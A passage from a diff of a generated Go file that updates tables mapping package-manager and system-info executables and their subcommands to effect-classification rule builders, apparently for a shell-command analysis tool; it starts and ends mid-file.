-		{line: 723, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL723},
-		{line: 738, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"install", "create", "update", "upgrade", "remove", "uninstall", "env", "run", "activate", "deactivate", "clean", "init", "search", "package", "build", "develop", "rename", "compare", "notices", "repoquery", "shell", "self-update", "tos"}, trigger: "", build: effectsPackagesL738},
-		{line: 747, kind: "program", exes: []string{"composer"}, subs: nil, trigger: "", build: effectsPackagesL747},
-		{line: 756, kind: "program", exes: []string{"gem"}, subs: nil, trigger: "", build: effectsPackagesL756},
-		{line: 769, kind: "program", exes: []string{"gem"}, subs: []string{"list", "info", "contents", "specification", "spec", "which", "environment", "env", "dependency", "dep", "query", "help", "sources", "stale", "check"}, trigger: "", build: effectsPackagesL769},
-		{line: 793, kind: "program", exes: []string{"gem"}, subs: []string{"install", "i", "uninstall", "update", "build", "push", "yank", "owner", "cleanup", "pristine", "rebuild", "open", "search", "outdated", "fetch", "unpack", "signin", "signout", "cert", "lock", "mirror", "rdoc", "server", "setup", "generate_index", "exec"}, trigger: "", build: effectsPackagesL793},
-		{line: 800, kind: "program", exes: []string{"bundle", "bundler"}, subs: nil, trigger: "", build: effectsPackagesL800},
-		{line: 812, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"version"}, trigger: "", build: effectsPackagesL812},
-		{line: 817, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL817},
-		{line: 827, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL827},
-		{line: 833, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"install", "update", "exec", "list", "show", "info", "check", "outdated", "console", "open", "lock", "package", "pack", "cache", "binstubs", "clean", "platform", "doctor", "add", "remove", "init", "gem", "plugin", "viz", "inject", "help", "fund", "licenses", "issue", "pristine"}, trigger: "", build: effectsPackagesL833},
+		{line: 46, kind: "program", exes: []string{"apt", "apt-get", "aptitude"}, subs: []string{"update", "safe-upgrade", "source", "download", "clean", "autoclean", "changelog", "check", "dselect-upgrade", "markauto", "unmarkauto", "hold", "unhold", "forget-new", "keep", "keep-all", "edit-sources", "moo", "indep-dep", "build-depends"}, trigger: "", build: effectsPackagesL46},
+		{line: 61, kind: "program", exes: []string{"apt", "apt-get", "aptitude"}, subs: []string{"install", "reinstall", "remove", "purge", "autoremove", "autopurge", "upgrade", "full-upgrade", "dist-upgrade", "satisfy", "build-dep"}, trigger: "", build: effectsPackagesL61},
+		{line: 85, kind: "program", exes: []string{"dpkg"}, subs: nil, trigger: "", build: effectsPackagesL85},
+		{line: 103, kind: "program", exes: []string{"rpm"}, subs: nil, trigger: "", build: effectsPackagesL103},
+		{line: 127, kind: "program", exes: []string{"opkg"}, subs: nil, trigger: "", build: effectsPackagesL127},
+		{line: 133, kind: "program", exes: []string{"opkg"}, subs: []string{"list", "list-installed", "list-upgradable", "info", "status", "files", "search", "find", "print-architecture", "depends", "whatdepends", "whatdependsrec", "whatprovides", "whatconflicts", "whatreplaces", "compare-versions"}, trigger: "", build: effectsPackagesL133},
+		{line: 141, kind: "program", exes: []string{"opkg"}, subs: []string{"update", "install", "remove", "upgrade", "configure", "flag", "clean", "download"}, trigger: "", build: effectsPackagesL141},
+		{line: 149, kind: "program", exes: []string{"dnf", "yum"}, subs: nil, trigger: "", build: effectsPackagesL149},
+		{line: 161, kind: "program", exes: []string{"dnf", "yum"}, subs: []string{"list", "info", "search", "provides", "whatprovides", "repolist", "repoquery", "rq", "deplist", "check-update", "updateinfo", "repoinfo", "changelog", "group", "groups", "module", "alias", "history", "makecache", "check", "mark", "download", "config-manager"}, trigger: "", build: effectsPackagesL161},
+		{line: 171, kind: "program", exes: []string{"dnf", "yum"}, subs: []string{"install", "in", "reinstall", "remove", "rm", "erase", "autoremove", "upgrade", "up", "update", "distro-sync", "dsync", "downgrade", "swap", "clean", "localinstall", "groupinstall", "builddep", "shell", "upgrade-minimal", "offline-upgrade", "system-upgrade"}, trigger: "", build: effectsPackagesL171},
+		{line: 180, kind: "program", exes: []string{"zypper"}, subs: nil, trigger: "", build: effectsPackagesL180},
+		{line: 193, kind: "program", exes: []string{"zypper"}, subs: []string{"repos", "lr", "services", "ls", "locks", "ll", "products", "pd"}, trigger: "", build: effectsPackagesL193},
+		{line: 200, kind: "program", exes: []string{"zypper"}, subs: []string{"search", "se", "info", "if", "packages", "pa", "patterns", "pt", "patches", "list-updates", "lu", "list-patches", "lp", "what-provides", "wp", "patch-check", "pchk"}, trigger: "", build: effectsPackagesL200},
+		{line: 210, kind: "program", exes: []string{"zypper"}, subs: []string{"install", "in", "remove", "rm", "update", "up", "dist-upgrade", "dup", "patch", "refresh", "ref", "addrepo", "ar", "removerepo", "rr", "modifyrepo", "mr", "renamerepo", "nr", "addlock", "al", "removelock", "rl", "clean", "cc", "verify", "ve", "install-new-recommends", "inr", "source-install", "si", "source-download", "shell", "sh", "addservice", "as", "removeservice", "rs", "refresh-services", "refs", "migration"}, trigger: "", build: effectsPackagesL210},
+		{line: 219, kind: "program", exes: []string{"pacman"}, subs: nil, trigger: "", build: effectsPackagesL219},
+		{line: 240, kind: "program", exes: []string{"apk"}, subs: nil, trigger: "", build: effectsPackagesL240},
+		{line: 250, kind: "program", exes: []string{"apk"}, subs: []string{"info", "list", "search", "policy", "dot", "stats", "version", "audit", "verify", "manifest", "query"}, trigger: "", build: effectsPackagesL250},
+		{line: 261, kind: "program", exes: []string{"apk"}, subs: []string{"add", "del", "fix", "update", "upgrade", "cache", "fetch", "index", "mkpkg", "extract", "convndx", "convdb"}, trigger: "", build: effectsPackagesL261},
+		{line: 272, kind: "program", exes: []string{"brew"}, subs: nil, trigger: "", build: effectsPackagesL272},
+		{line: 286, kind: "program", exes: []string{"brew"}, subs: []string{"list", "ls", "deps", "uses", "leaves", "config", "doctor", "dr", "cat", "commands", "shellenv", "formulae", "casks", "missing", "readall", "options", "log", "desc", "tap-info"}, trigger: "", build: effectsPackagesL286},
+		{line: 298, kind: "program", exes: []string{"brew"}, subs: []string{"info", "abv", "search", "outdated", "home", "homepage", "docs", "tap", "untap", "install", "reinstall", "uninstall", "remove", "rm", "upgrade", "update", "cleanup", "autoremove", "link", "ln", "unlink", "pin", "unpin", "edit", "bundle", "services", "trust", "fetch", "create", "extract", "audit", "style", "test", "livecheck", "bump", "ruby", "irb", "sh", "migrate", "developer", "analytics", "completions", "update-reset", "tap-new", "gist-logs", "postinstall", "unalias", "alias", "which-formula", "command-not-found-init"}, trigger: "", build: effectsPackagesL298},
+		{line: 304, kind: "program", exes: []string{"port"}, subs: nil, trigger: "", build: effectsPackagesL304},
+		{line: 313, kind: "program", exes: []string{"port"}, subs: []string{"installed", "list", "search", "info", "deps", "rdeps", "dependents", "rdependents", "contents", "provides", "echo", "outdated", "variants", "location", "dir", "file", "cat", "url", "version", "platform", "notes", "usage", "logfile", "work"}, trigger: "", build: effectsPackagesL313},
+		{line: 320, kind: "program", exes: []string{"port"}, subs: []string{"install", "uninstall", "upgrade", "selfupdate", "sync", "clean", "activate", "deactivate", "select", "load", "unload", "reload", "edit", "fetch", "checksum", "extract", "patch", "configure", "build", "destroot", "test", "mpkg", "pkg", "dmg", "archive", "reclaim", "migrate", "setrequested", "unsetrequested", "diagnose", "lint", "mirror", "distcheck", "livecheck", "gohome"}, trigger: "", build: effectsPackagesL320},
+		{line: 326, kind: "program", exes: []string{"snap"}, subs: nil, trigger: "", build: effectsPackagesL326},
+		{line: 331, kind: "program", exes: []string{"snap"}, subs: []string{"list", "version", "services", "changes", "tasks", "change", "connections", "interfaces", "aliases", "model", "known", "warnings", "logs", "routine", "debug", "saved", "validate", "components"}, trigger: "", build: effectsPackagesL331},
+		{line: 339, kind: "program", exes: []string{"snap"}, subs: []string{"info", "find", "search", "install", "remove", "refresh", "revert", "enable", "disable", "set", "unset", "get", "start", "stop", "restart", "connect", "disconnect", "alias", "unalias", "prefer", "run", "login", "logout", "buy", "download", "ack", "create-user", "remove-user", "switch", "save", "restore", "forget", "pack", "try", "abort", "okay", "whoami", "wait", "watch", "prepare-image", "recovery", "reboot", "quota", "remove-quota", "set-quota", "sign", "sign-build", "create-cohort", "export-key", "keys", "create-key"}, trigger: "", build: effectsPackagesL339},
+		{line: 345, kind: "program", exes: []string{"flatpak"}, subs: nil, trigger: "", build: effectsPackagesL345},
+		{line: 350, kind: "program", exes: []string{"flatpak"}, subs: []string{"list", "info", "remotes", "remote-info", "history", "ps", "documents", "permissions", "permission-show", "config", "search", "mask", "pin"}, trigger: "", build: effectsPackagesL350},
+		{line: 360, kind: "program", exes: []string{"flatpak"}, subs: []string{"install", "uninstall", "update", "upgrade", "run", "enter", "kill", "remote-add", "remote-modify", "remote-delete", "remote-ls", "repair", "override", "make-current", "create-usb", "document-export", "document-unexport", "permission-remove", "permission-set", "permission-reset", "build", "build-init", "build-finish", "build-export", "build-bundle", "build-import-bundle", "build-sign", "build-update-repo", "build-commit-from", "repo", "spawn"}, trigger: "", build: effectsPackagesL360},
+		{line: 368, kind: "program", exes: []string{"npm"}, subs: nil, trigger: "", build: effectsPackagesL368},
+		{line: 393, kind: "program", exes: []string{"npm"}, subs: []string{"ls", "list", "ll", "la", "explain", "why", "prefix", "root", "fund", "query", "sbom", "help", "help-search", "completion", "bin"}, trigger: "", build: effectsPackagesL393},
+		{line: 403, kind: "program", exes: []string{"npm"}, subs: []string{"config", "c"}, trigger: "", build: effectsPackagesL403},
+		{line: 410, kind: "program", exes: []string{"npm"}, subs: []string{"audit", "doctor", "diff", "dist-tag", "dist-tags", "owner", "author", "access", "team", "org", "star", "stars", "unstar", "deprecate", "unpublish", "profile", "hook", "token", "adduser", "add-user", "login", "logout", "publish", "repo", "docs", "home", "bugs", "issues"}, trigger: "", build: effectsPackagesL410},
+		{line: 421, kind: "program", exes: []string{"npm"}, subs: []string{"view", "v", "info", "show", "search", "s", "se", "find", "outdated", "ping", "whoami"}, trigger: "", build: effectsPackagesL421},
+		{line: 430, kind: "program", exes: []string{"npm"}, subs: []string{"test", "tst", "t", "start", "stop", "restart", "run", "run-script", "rum", "urn", "exec", "x", "install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal", "isntall", "add", "ci", "clean-install", "ic", "install-clean", "isntall-clean", "install-test", "it", "install-ci-test", "cit", "update", "up", "upgrade", "udpate", "rebuild", "rb", "link", "ln", "pack", "version", "verison", "init", "create", "innit", "edit", "explore", "dedupe", "ddp", "prune", "uninstall", "unlink", "remove", "rm", "r", "un", "shrinkwrap", "set", "cache", "pkg", "config", "c", "set-script"}, trigger: "", build: effectsPackagesL430},
+		{line: 437, kind: "program", exes: []string{"npx"}, subs: nil, trigger: "", build: effectsPackagesL437},
+		{line: 444, kind: "program", exes: []string{"yarn"}, subs: nil, trigger: "", build: effectsPackagesL444},
+		{line: 461, kind: "program", exes: []string{"yarn"}, subs: []string{"list", "why", "bin", "licenses"}, trigger: "", build: effectsPackagesL461},
+		{line: 468, kind: "program", exes: []string{"yarn"}, subs: []string{"config", "workspaces", "cache"}, trigger: "", build: effectsPackagesL468},
+		{line: 474, kind: "program", exes: []string{"yarn"}, subs: []string{"info", "npm", "outdated", "audit", "search", "upgrade-interactive", "dlx", "create", "publish", "login", "logout", "owner", "tag", "team", "pack", "version", "policies", "set", "plugin", "import", "link", "unlink", "install", "add", "remove", "upgrade", "up", "run", "test", "exec", "node", "generate-lock-entry", "global", "autoclean", "check", "dedupe", "patch", "patch-commit", "rebuild", "explain", "constraints", "stage", "init"}, trigger: "", build: effectsPackagesL474},
+		{line: 481, kind: "program", exes: []string{"pnpm"}, subs: nil, trigger: "", build: effectsPackagesL481},
+		{line: 495, kind: "program", exes: []string{"pnpm"}, subs: []string{"ls", "list", "ll", "la", "why", "root", "bin", "licenses"}, trigger: "", build: effectsPackagesL495},
+		{line: 503, kind: "program", exes: []string{"pnpm"}, subs: []string{"config", "c", "store"}, trigger: "", build: effectsPackagesL503},
+		{line: 510, kind: "program", exes: []string{"pnpm"}, subs: []string{"install", "i", "add", "remove", "rm", "uninstall", "un", "update", "up", "upgrade", "link", "ln", "unlink", "prune", "rebuild", "rb", "run", "run-script", "test", "t", "start", "exec", "dlx", "create", "publish", "pack", "outdated", "audit", "import", "fetch", "patch", "patch-commit", "dedupe", "deploy", "env", "setup", "server", "init", "doctor", "approve-builds", "install-test", "it", "self-update", "config", "c", "cat-file", "cat-index", "find-hash", "version", "store"}, trigger: "", build: effectsPackagesL510},
+		{line: 518, kind: "program", exes: []string{"pip", "pip3"}, subs: nil, trigger: "", build: effectsPackagesL518},
+		{line: 539, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"list", "show", "freeze", "check", "inspect", "debug", "help", "hash"}, trigger: "", build: effectsPackagesL539},
+		{line: 559, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL559},
+		{line: 565, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL565},
+		{line: 574, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"cache"}, trigger: "", build: effectsPackagesL574},
+		{line: 580, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"install", "download", "wheel", "uninstall", "search", "index", "cache", "lock", "config"}, trigger: "", build: effectsPackagesL580},
+		{line: 587, kind: "program", exes: []string{"pipx"}, subs: nil, trigger: "", build: effectsPackagesL587},
+		{line: 592, kind: "program", exes: []string{"pipx"}, subs: []string{"list", "environment", "completions"}, trigger: "", build: effectsPackagesL592},
+		{line: 599, kind: "program", exes: []string{"pipx"}, subs: []string{"run", "install", "install-all", "uninstall", "uninstall-all", "upgrade", "upgrade-all", "upgrade-shared", "reinstall", "reinstall-all", "inject", "uninject", "runpip", "ensurepath", "pin", "unpin", "interpreter"}, trigger: "", build: effectsPackagesL599},
+		{line: 605, kind: "program", exes: []string{"uv"}, subs: nil, trigger: "", build: effectsPackagesL605},
+		{line: 619, kind: "program", exes: []string{"uv"}, subs: []string{"pip"}, trigger: "", build: effectsPackagesL619},
+		{line: 627, kind: "program", exes: []string{"uv"}, subs: []string{"python", "tool", "cache"}, trigger: "", build: effectsPackagesL627},
+		{line: 636, kind: "program", exes: []string{"uv"}, subs: []string{"version", "help", "generate-shell-completion"}, trigger: "", build: effectsPackagesL636},
+		{line: 645, kind: "program", exes: []string{"uv"}, subs: []string{"sync", "lock", "add", "remove", "tree", "export", "init", "build", "publish", "venv", "pip", "tool", "python", "cache", "self", "format", "auth"}, trigger: "", build: effectsPackagesL645},
+		{line: 653, kind: "program", exes: []string{"uv"}, subs: []string{"run"}, trigger: "", build: effectsPackagesL653},
+		{line: 667, kind: "program", exes: []string{"poetry"}, subs: nil, trigger: "", build: effectsPackagesL667},
+		{line: 675, kind: "program", exes: []string{"poetry"}, subs: []string{"show", "check", "about", "list", "help"}, trigger: "", build: effectsPackagesL675},
+		{line: 687, kind: "program", exes: []string{"poetry"}, subs: []string{"env", "config", "cache", "source"}, trigger: "", build: effectsPackagesL687},
+		{line: 693, kind: "program", exes: []string{"poetry"}, subs: []string{"install", "update", "add", "remove", "lock", "run", "shell", "build", "publish", "export", "init", "new", "search", "self", "env", "config", "cache", "source", "version", "sync", "debug", "python"}, trigger: "", build: effectsPackagesL693},
+		{line: 700, kind: "program", exes: []string{"hatch"}, subs: nil, trigger: "", build: effectsPackagesL700},
+		{line: 709, kind: "program", exes: []string{"hatch"}, subs: []string{"status"}, trigger: "", build: effectsPackagesL709},
+		{line: 714, kind: "program", exes: []string{"hatch"}, subs: []string{"env", "config", "dep", "python"}, trigger: "", build: effectsPackagesL714},
+		{line: 720, kind: "program", exes: []string{"hatch"}, subs: []string{"run", "test", "build", "shell", "env", "version", "new", "publish", "clean", "fmt", "project", "dep", "config", "python", "self"}, trigger: "", build: effectsPackagesL720},
+		{line: 728, kind: "program", exes: []string{"conda", "mamba"}, subs: nil, trigger: "", build: effectsPackagesL728},
+		{line: 739, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"list", "info", "doctor"}, trigger: "", build: effectsPackagesL739},
+		{line: 748, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"env"}, trigger: "", build: effectsPackagesL748},
+		{line: 758, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL758},
+		{line: 773, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"install", "create", "update", "upgrade", "remove", "uninstall", "env", "run", "activate", "deactivate", "clean", "init", "search", "package", "build", "develop", "rename", "compare", "notices", "repoquery", "shell", "self-update", "tos"}, trigger: "", build: effectsPackagesL773},
+		{line: 782, kind: "program", exes: []string{"composer"}, subs: nil, trigger: "", build: effectsPackagesL782},
+		{line: 791, kind: "program", exes: []string{"gem"}, subs: nil, trigger: "", build: effectsPackagesL791},
+		{line: 804, kind: "program", exes: []string{"gem"}, subs: []string{"list", "info", "contents", "specification", "spec", "which", "environment", "env", "dependency", "dep", "query", "help", "sources", "stale", "check"}, trigger: "", build: effectsPackagesL804},
+		{line: 828, kind: "program", exes: []string{"gem"}, subs: []string{"install", "i", "uninstall", "update", "build", "push", "yank", "owner", "cleanup", "pristine", "rebuild", "open", "search", "outdated", "fetch", "unpack", "signin", "signout", "cert", "lock", "mirror", "rdoc", "server", "setup", "generate_index", "exec"}, trigger: "", build: effectsPackagesL828},
+		{line: 835, kind: "program", exes: []string{"bundle", "bundler"}, subs: nil, trigger: "", build: effectsPackagesL835},
+		{line: 847, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"version"}, trigger: "", build: effectsPackagesL847},
+		{line: 852, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL852},
+		{line: 862, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL862},
+		{line: 868, kind: "program", exes: []string{"bundle", "bundler"}, subs: []string{"install", "update", "exec", "list", "show", "info", "check", "outdated", "console", "open", "lock", "package", "pack", "cache", "binstubs", "clean", "platform", "doctor", "add", "remove", "init", "gem", "plugin", "viz", "inject", "help", "fund", "licenses", "issue", "pristine"}, trigger: "", build: effectsPackagesL868},
 	}},
 	{file: "effects/pagers.toml", header: packHeader{Name: "effects-pagers", Executables: []string{"less", "zless", "more", "most", "pg", "view", "man", "apropos", "whatis", "info", "tldr"}}, blocks: []genBlock{
 		{line: 12, kind: "program", exes: []string{"less", "zless"}, subs: nil, trigger: "", build: effectsPagersL12},
@@ -1796,19 +1807,19 @@ var generatedPacks = []genPack{
 		{line: 922, kind: "program", exes: []string{"nmcli"}, subs: []string{"r", "ra", "radio"}, trigger: "", build: effectsSysinfoL922},
 		{line: 930, kind: "program", exes: []string{"iwconfig"}, subs: nil, trigger: "", build: effectsSysinfoL930},
 		{line: 939, kind: "program", exes: []string{"ping", "ping6"}, subs: nil, trigger: "", build: effectsSysinfoL939},
-		{line: 948, kind: "program", exes: []string{"traceroute", "tracepath"}, subs: nil, trigger: "", build: effectsSysinfoL948},
-		{line: 960, kind: "program", exes: []string{"mtr"}, subs: nil, trigger: "", build: effectsSysinfoL960},
-		{line: 978, kind: "program", exes: []string{"dig"}, subs: nil, trigger: "", build: effectsSysinfoL978},
-		{line: 991, kind: "program", exes: []string{"host"}, subs: nil, trigger: "", build: effectsSysinfoL991},
-		{line: 1000, kind: "program", exes: []string{"nslookup"}, subs: nil, trigger: "", build: effectsSysinfoL1000},
-		{line: 1007, kind: "program", exes: []string{"whois"}, subs: nil, trigger: "", build: effectsSysinfoL1007},
-		{line: 1023, kind: "program", exes: []string{"xclip"}, subs: nil, trigger: "", build: effectsSysinfoL1023},
-		{line: 1035, kind: "program", exes: []string{"xsel"}, subs: nil, trigger: "", build: effectsSysinfoL1035},
-		{line: 1049, kind: "program", exes: []string{"pbpaste"}, subs: nil, trigger: "", build: effectsSysinfoL1049},
-		{line: 1056, kind: "program", exes: []string{"pbcopy"}, subs: nil, trigger: "", build: effectsSysinfoL1056},
-		{line: 1067, kind: "program", exes: []string{"crontab"}, subs: nil, trigger: "", build: effectsSysinfoL1067},
-		{line: 1082, kind: "program", exes: []string{"watch"}, subs: nil, trigger: "", build: effectsSysinfoL1082},
-		{line: 1101, kind: "program", exes: []string{"wipefs"}, subs: nil, trigger: "", build: effectsSysinfoL1101},
+		{line: 950, kind: "program", exes: []string{"traceroute", "tracepath"}, subs: nil, trigger: "", build: effectsSysinfoL950},
+		{line: 962, kind: "program", exes: []string{"mtr"}, subs: nil, trigger: "", build: effectsSysinfoL962},
+		{line: 980, kind: "program", exes: []string{"dig"}, subs: nil, trigger: "", build: effectsSysinfoL980},
+		{line: 994, kind: "program", exes: []string{"host"}, subs: nil, trigger: "", build: effectsSysinfoL994},
+		{line: 1003, kind: "program", exes: []string{"nslookup"}, subs: nil, trigger: "", build: effectsSysinfoL1003},
+		{line: 1010, kind: "program", exes: []string{"whois"}, subs: nil, trigger: "", build: effectsSysinfoL1010},
+		{line: 1026, kind: "program", exes: []string{"xclip"}, subs: nil, trigger: "", build: effectsSysinfoL1026},
+		{line: 1038, kind: "program", exes: []string{"xsel"}, subs: nil, trigger: "", build: effectsSysinfoL1038},
+		{line: 1052, kind: "program", exes: []string{"pbpaste"}, subs: nil, trigger: "", build: effectsSysinfoL1052},
+		{line: 1059, kind: "program", exes: []string{"pbcopy"}, subs: nil, trigger: "", build: effectsSysinfoL1059},
+		{line: 1070, kind: "program", exes: []string{"crontab"}, subs: nil, trigger: "", build: effectsSysinfoL1070},
+		{line: 1085, kind: "program", exes: []string{"watch"}, subs: nil, trigger: "", build: effectsSysinfoL1085},
+		{line: 1104, kind: "program", exes: []string{"wipefs"}, subs: nil, trigger: "", build: effectsSysinfoL1104},
 	}},
 	{file: "effects/text.toml", header: packHeader{Name: "effects-text", Executables: []string{"cat", "sort", "sed", "gsed", "awk", "gawk", "mawk", "nawk", "grep", "egrep", "fgrep", "strings", "hexdump", "hd", "xxd", "rev", "column", "look", "iconv", "ul", "dos2unix", "sponge", "jq", "yq", "xq", "tomlq", "gron", "fx", "xmllint"}}, blocks: []genBlock{
 		{line: 7, kind: "exe", exes: []string{"xxd"}, subs: nil, trigger: "", build: effectsTextL7},
@@ -1976,12 +1987,12 @@ var generatedExeIndex = []genExe{
 	{name: "apache2", grammar: []uint32{0x1c001a}, generic: []uint32{0x1c001a}, subs: nil, ruleKnown: false},
 	{name: "apache2ctl", grammar: []uint32{0x1c001b}, generic: []uint32{0x1c001b}, subs: nil, ruleKnown: false},
 	{name: "apachectl", grammar: []uint32{0x10001d}, generic: []uint32{0x10001e}, subs: nil, ruleKnown: true},
-	{name: "apk", grammar: []uint32{0x1f0010}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0010}, subs: []genSub{{"add", []uint32{0x1f0012}}, {"audit", []uint32{0x1f0011}}, {"cache", []uint32{0x1f0012}}, {"convdb", []uint32{0x1f0012}}, {"convndx", []uint32{0x1f0012}}, {"del", []uint32{0x1f0012}}, {"dot", []uint32{0x1f0011}}, {"extract", []uint32{0x1f0012}}, {"fetch", []uint32{0x1f0012}}, {"fix", []uint32{0x1f0012}}, {"index", []uint32{0x1f0012}}, {"info", []uint32{0x1f0011}}, {"list", []uint32{0x1f0011}}, {"manifest", []uint32{0x1f0011}}, {"mkpkg", []uint32{0x1f0012}}, {"policy", []uint32{0x1f0011}}, {"query", []uint32{0x1f0011}}, {"search", []uint32{0x1f0011}}, {"stats", []uint32{0x1f0011}}, {"update", []uint32{0x1f0012}}, {"upgrade", []uint32{0x1f0012}}, {"verify", []uint32{0x1f0011}}, {"version", []uint32{0x1f0011}}}, ruleKnown: true},
+	{name: "apk", grammar: []uint32{0x1f0011}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0011}, subs: []genSub{{"add", []uint32{0x1f0013}}, {"audit", []uint32{0x1f0012}}, {"cache", []uint32{0x1f0013}}, {"convdb", []uint32{0x1f0013}}, {"convndx", []uint32{0x1f0013}}, {"del", []uint32{0x1f0013}}, {"dot", []uint32{0x1f0012}}, {"extract", []uint32{0x1f0013}}, {"fetch", []uint32{0x1f0013}}, {"fix", []uint32{0x1f0013}}, {"index", []uint32{0x1f0013}}, {"info", []uint32{0x1f0012}}, {"list", []uint32{0x1f0012}}, {"manifest", []uint32{0x1f0012}}, {"mkpkg", []uint32{0x1f0013}}, {"policy", []uint32{0x1f0012}}, {"query", []uint32{0x1f0012}}, {"search", []uint32{0x1f0012}}, {"stats", []uint32{0x1f0012}}, {"update", []uint32{0x1f0013}}, {"upgrade", []uint32{0x1f0013}}, {"verify", []uint32{0x1f0012}}, {"version", []uint32{0x1f0012}}}, ruleKnown: true},
 	{name: "apport-cli", grammar: []uint32{0x1c001c}, generic: []uint32{0x1c001c}, subs: nil, ruleKnown: false},
 	{name: "apropos", grammar: []uint32{0x200006}, generic: []uint32{0xd0016, 0x200006}, subs: nil, ruleKnown: true},
-	{name: "apt", grammar: []uint32{0x1f0000}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0000}, subs: []genSub{{"autoclean", []uint32{0x1f0002}}, {"autopurge", []uint32{0x1f0002}}, {"autoremove", []uint32{0x1f0002}}, {"build-dep", []uint32{0x1f0002}}, {"build-depends", []uint32{0x1f0002}}, {"changelog", []uint32{0x1f0002}}, {"check", []uint32{0x1f0002}}, {"clean", []uint32{0x1f0002}}, {"depends", []uint32{0x1f0001}}, {"dist-upgrade", []uint32{0x1f0002}}, {"dotty", []uint32{0x1f0001}}, {"download", []uint32{0x1f0002}}, {"dselect-upgrade", []uint32{0x1f0002}}, {"edit-sources", []uint32{0x1f0002}}, {"forget-new", []uint32{0x1f0002}}, {"full-upgrade", []uint32{0x1f0002}}, {"hold", []uint32{0x1f0002}}, {"indep-dep", []uint32{0x1f0002}}, {"install", []uint32{0x1f0002}}, {"keep", []uint32{0x1f0002}}, {"keep-all", []uint32{0x1f0002}}, {"list", []uint32{0x1f0001}}, {"madison", []uint32{0x1f0001}}, {"markauto", []uint32{0x1f0002}}, {"moo", []uint32{0x1f0002}}, {"pkgnames", []uint32{0x1f0001}}, {"policy", []uint32{0x1f0001}}, {"purge", []uint32{0x1f0002}}, {"rdepends", []uint32{0x1f0001}}, {"reinstall", []uint32{0x1f0002}}, {"remove", []uint32{0x1f0002}}, {"safe-upgrade", []uint32{0x1f0002}}, {"satisfy", []uint32{0x1f0002}}, {"search", []uint32{0x1f0001}}, {"show", []uint32{0x1f0001}}, {"showpkg", []uint32{0x1f0001}}, {"showsrc", []uint32{0x1f0001}}, {"source", []uint32{0x1f0002}}, {"stats", []uint32{0x1f0001}}, {"unhold", []uint32{0x1f0002}}, {"unmarkauto", []uint32{0x1f0002}}, {"update", []uint32{0x1f0002}}, {"upgrade", []uint32{0x1f0002}}, {"versions", []uint32{0x1f0001}}, {"why", []uint32{0x1f0001}}, {"why-not", []uint32{0x1f0001}}, {"xvcg", []uint32{0x1f0001}}}, ruleKnown: true},
-	{name: "apt-get", grammar: []uint32{0x1f0000}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0000}, subs: []genSub{{"autoclean", []uint32{0x1f0002}}, {"autopurge", []uint32{0x1f0002}}, {"autoremove", []uint32{0x1f0002}}, {"build-dep", []uint32{0x1f0002}}, {"build-depends", []uint32{0x1f0002}}, {"changelog", []uint32{0x1f0002}}, {"check", []uint32{0x1f0002}}, {"clean", []uint32{0x1f0002}}, {"dist-upgrade", []uint32{0x1f0002}}, {"download", []uint32{0x1f0002}}, {"dselect-upgrade", []uint32{0x1f0002}}, {"edit-sources", []uint32{0x1f0002}}, {"forget-new", []uint32{0x1f0002}}, {"full-upgrade", []uint32{0x1f0002}}, {"hold", []uint32{0x1f0002}}, {"indep-dep", []uint32{0x1f0002}}, {"install", []uint32{0x1f0002}}, {"keep", []uint32{0x1f0002}}, {"keep-all", []uint32{0x1f0002}}, {"markauto", []uint32{0x1f0002}}, {"moo", []uint32{0x1f0002}}, {"purge", []uint32{0x1f0002}}, {"reinstall", []uint32{0x1f0002}}, {"remove", []uint32{0x1f0002}}, {"safe-upgrade", []uint32{0x1f0002}}, {"satisfy", []uint32{0x1f0002}}, {"source", []uint32{0x1f0002}}, {"unhold", []uint32{0x1f0002}}, {"unmarkauto", []uint32{0x1f0002}}, {"update", []uint32{0x1f0002}}, {"upgrade", []uint32{0x1f0002}}}, ruleKnown: true},
-	{name: "aptitude", grammar: []uint32{0x1f0000}, generic: []uint32{0x1f0000}, subs: []genSub{{"autoclean", []uint32{0x1f0002}}, {"autopurge", []uint32{0x1f0002}}, {"autoremove", []uint32{0x1f0002}}, {"build-dep", []uint32{0x1f0002}}, {"build-depends", []uint32{0x1f0002}}, {"changelog", []uint32{0x1f0002}}, {"check", []uint32{0x1f0002}}, {"clean", []uint32{0x1f0002}}, {"depends", []uint32{0x1f0001}}, {"dist-upgrade", []uint32{0x1f0002}}, {"dotty", []uint32{0x1f0001}}, {"download", []uint32{0x1f0002}}, {"dselect-upgrade", []uint32{0x1f0002}}, {"edit-sources", []uint32{0x1f0002}}, {"forget-new", []uint32{0x1f0002}}, {"full-upgrade", []uint32{0x1f0002}}, {"hold", []uint32{0x1f0002}}, {"indep-dep", []uint32{0x1f0002}}, {"install", []uint32{0x1f0002}}, {"keep", []uint32{0x1f0002}}, {"keep-all", []uint32{0x1f0002}}, {"list", []uint32{0x1f0001}}, {"madison", []uint32{0x1f0001}}, {"markauto", []uint32{0x1f0002}}, {"moo", []uint32{0x1f0002}}, {"pkgnames", []uint32{0x1f0001}}, {"policy", []uint32{0x1f0001}}, 